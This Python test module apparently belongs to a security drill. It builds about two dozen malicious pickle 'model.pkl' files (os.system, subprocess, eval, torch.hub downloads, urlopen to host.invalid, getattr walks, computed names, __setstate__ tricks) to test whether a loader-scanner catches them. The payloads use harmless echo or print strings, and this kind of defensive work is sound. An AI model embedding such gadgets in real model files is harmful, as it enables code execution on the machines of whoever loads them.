"""Pickles that call something dangerous, by mechanism: what is called, and how its name travels."""

from __future__ import annotations

from pathlib import Path

from pratique.drill.attack import Attack, AttackPath
from pratique.drill.pickle_writer import (
    ECHO,
    benign,
    blob,
    call,
    dictionary,
    glob,
    pickle,
    stack_global,
    text,
    tuple_of,
)

REFERENCES = ("CWE-502", "AML.T0011.000", "ML06:2023")
CALL = "loading/dangerous-call"
IMPORT = "loading/dangerous-import"


def attack(
    id_: str, title: str, body: bytes, trips: tuple[str, ...] = (CALL,), number: int = 4, refused: bool = True
) -> Attack:
    def build(folder: Path) -> None:
        (folder / "model.pkl").write_bytes(pickle(body, number))

    return Attack(f"gadget/{id_}", title, AttackPath.MODEL, trips, build, twin, refused, "model.pkl", REFERENCES)


def twin(folder: Path) -> None:
    (folder / "model.pkl").write_bytes(benign())


def getattr_of(owner: bytes, name: str) -> bytes:
    return call(stack_global("builtins", "getattr"), owner, text(name))


_SYSTEM = stack_global("os", "system")
_COMPUTED = call(getattr_of(text("_"), "join"), b"(" + text("run") + text("shell") + b"l")

ATTACKS = (
    attack("system", "os.system runs a command while the pickle loads", call(_SYSTEM, text(ECHO))),
    attack("python-2-name", "a Python 2 name that unpicklers map", call(glob("commands", "getoutput"), text(ECHO)), number=2),
    attack("subprocess", "subprocess.Popen starts a process", call(stack_global("subprocess", "Popen"), text(ECHO))),
    attack("eval", "builtins.eval evaluates source", call(stack_global("builtins", "eval"), text("print('pratique-drill')"))),
    attack("dotted", "a dotted name walks from a harmless module", call(stack_global("logging", "os.system"), text(ECHO)),
           ("loading/standard-library-call",)),
    attack("partial", "functools.partial carries the call", call(call(stack_global("functools", "partial"), _SYSTEM), text(ECHO))),
    attack("getattr-walk", "attributes lead from str to every class",
           call(getattr_of(getattr_of(stack_global("builtins", "str"), "__class__"), "__subclasses__")),
           ("loading/attribute-walk", "loading/dangerous-attribute")),
    attack("import-module", "importlib finds the module at run time",
           call(getattr_of(call(stack_global("importlib", "import_module"), text("os")), "system"), text(ECHO))),
    attack("nested-loads", "a pickle in a byte string is loaded by the outer one",
           call(stack_global("pickle", "loads"), blob(pickle(call(_SYSTEM, text(ECHO)))))),
    attack("torch-load", "torch loads a nested pickle from bytes",
           call(stack_global("torch.storage", "_load_from_bytes"), blob(pickle(call(_SYSTEM, text(ECHO)), 2)))),
    attack("url", "urllib opens an address",
           call(stack_global("urllib.request", "urlopen"), text("https://host.invalid/"))),
    attack("mail", "smtplib connects", call(stack_global("smtplib", "SMTP"), text("host.invalid"))),
    attack("write", "pathlib writes a file",
           call(stack_global("pathlib", "Path.write_text"), call(stack_global("pathlib", "Path"), text("x")), text("x"))),
    attack("read", "linecache reads a file", call(stack_global("linecache", "getline"), text("/etc/hostname"), b"K\x01")),
    attack("native", "ctypes loads a library", call(stack_global("ctypes", "CDLL"), text("libdrill.so"))),
    attack("numpy-runstring", "a test helper of numpy executes a string",
           call(stack_global("numpy.testing._private.utils", "runstring"), text("print('drill')"), b"}")),
    attack("torch-hub", "torch.hub downloads and imports code", call(stack_global("torch.hub", "load"), text("host/invalid"))),
    attack("unlisted-standard-library", "a standard-library callable that is not listed",
           call(stack_global("difflib", "restore"), b")", b"K\x01"), ("loading/standard-library-call",)),
    attack("setstate", "BUILD puts a callable where the next BUILD calls it",
           stack_global("argparse", "Namespace") + b")\x81" + dictionary(__setstate__=_SYSTEM) + b"b" + text(ECHO) + b"b"),
    attack("hidden-reference", "a reference to os.system waits in a dictionary", dictionary(hook=_SYSTEM), (IMPORT,)),
    attack("attrgetter", "an attribute getter for system waits to be applied",
           call(stack_global("operator", "attrgetter"), text("system")), ("loading/dangerous-attribute",)),
    attack("computed-name", "the name is joined at run time", call(text("helper") + _COMPUTED + b"\x93"),
           ("loading/computed-name",)),
    attack("unknown-class", "a class that no table lists", stack_global("acme.models", "Net") + b")\x81",
           ("loading/unknown-import", "loading/unknown-call"), refused=False),
    attack("reduce-chain", "the result of one call is called",
           call(call(stack_global("acme.models", "make")), tuple_of()), ("loading/unknown-target",), refused=False),
)  # fmt: skip
